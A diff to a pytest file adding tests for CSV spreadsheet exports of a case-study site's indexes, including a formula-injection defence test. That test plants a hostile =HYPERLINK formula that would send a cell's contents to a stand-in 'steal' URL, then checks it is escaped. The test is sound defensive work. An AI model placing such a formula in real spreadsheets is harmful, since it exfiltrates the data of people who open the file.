@@ -9,6 +9,7 @@ import re
 from collections import Counter
 
 import pytest
+from conftest import DATA
 
 from pcmh_kg.cli import main
 from pcmh_kg.model import labels
@@ -271,3 +272,67 @@ def test_place_and_organisation_pages_show_each_external_identifier_with_its_sou
         text = body(P.entity(e, [], [], []))
         shown = f'<a href="{url}" rel="noopener">{code}</a>' if url else f"{code}"
         assert shown in text and f'<a href="{html.escape(source)}" rel="noopener">its source</a>' in text, (e, code)
+
+
+# ----------------------------------------------------------------------- spreadsheets
+
+def _sheet(answer) -> tuple[list[str], list[list[str]], dict]:
+    import csv
+    import io
+
+    status, ctype, payload, headers = answer
+    assert status == 200 and ctype == "text/csv; charset=utf-8"
+    assert payload.startswith("\ufeff".encode()) and b"\r\n" in payload  # Excel reads UTF-8 with a BOM
+    header, *rows = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"))))
+    return header, rows, headers
+
+
+def test_a_filtered_case_list_downloads_as_a_spreadsheet(P, st):
+    header, rows, headers = _sheet(P.index("case", {"lesson": ["3"], "scope": ["national"], "sort": ["-start"],
+                                                   "format": ["csv"]}))
+    assert header == ["Case study", "Place", "Scope", "Started", "Lessons", "Link", "Lesson numbers",
+                      "Contact organisation", "Contact role", "Contact page"]
+    want = {r[0] for r in library(st, "cases-for-lesson", lesson=3)} & \
+        {c.iri for c in P.site.cases.values() if c.scope and c.scope.endswith("National")}
+    assert len(rows) == len(want) > 5 and {r[5] for r in rows} == want
+    assert headers["Content-Disposition"] == 'attachment; filename="case-lesson-3-scope-national.csv"'
+    started = [int(r[3]) for r in rows if r[3]]
+    assert started == sorted(started, reverse=True) and len(started) < len(rows)  # the page's order; none for unknown
+    for r in rows:
+        case = P.site.cases[r[5]]
+        assert r[2] == "National" and "3" in r[6].split("; ") and int(r[4]) == len(r[6].split("; "))
+        assert r[9] == case.contact["url"] and r[8] == case.contact["role"]
+    page = body(P.index("case", {"lesson": ["3"], "scope": ["national"]}))
+    assert 'href="/case/?lesson=3&amp;scope=national&amp;sort=name&amp;format=csv"' in page
+
+
+def test_every_index_downloads_and_a_bad_request_is_refused(P):
+    _, rows, _ = _sheet(P.index("case", {"format": ["csv"]}))
+    assert len(rows) == len(P.site.cases) > views.PAGE_SIZE  # the whole list, not its first page
+    for kind in ("lesson", "theme", "tag", "place", "organisation"):
+        header, rows, _ = _sheet(P.index(kind, {"format": ["csv"]}))
+        assert header[-1] == "Link" and len(rows) == len(getattr(P.site, kind + "s"))
+    for params, says in (({"format": ["xlsx"]}, "format must be csv"), ({"format": ["csv"], "lesson": ["99"]},
+                         "unknown lesson"), ({"format": ["csv", "csv"]}, "give format once")):
+        status, _, payload, _ = P.index("case", params)
+        assert status == 400 and says in payload.decode(), params
+
+
+def test_a_spreadsheet_never_runs_text_from_the_data(tmp_path):
+    import shutil
+
+    import yaml
+
+    from pcmh_kg.sinks import sheet
+
+    assert [sheet.cell(v) for v in ("=1+1", "+44", "-x", "@SUM(A1)", "\tx", "plain", 2014, None)] == \
+        ["'=1+1", "'+44", "'-x", "'@SUM(A1)", "'\tx", "plain", "2014", ""]
+    data = tmp_path / "data"
+    shutil.copytree(DATA, data)
+    path = sorted((data / "cases").glob("*.yaml"))[0]
+    case = yaml.safe_load(path.read_text(encoding="utf-8"))
+    case["title"] = '=HYPERLINK("https://example.org/steal?x="&A1, "click")'
+    path.write_text(yaml.safe_dump(case, sort_keys=False, allow_unicode=True), encoding="utf-8")
+    hostile = store.from_data(data)
+    _, rows, _ = _sheet(people.People(BASE, lambda q: sparql.run_local(hostile, q)).index("case", {"format": ["csv"]}))
+    assert ["'" + case["title"]] == [r[0] for r in rows if "HYPERLINK" in r[0]]
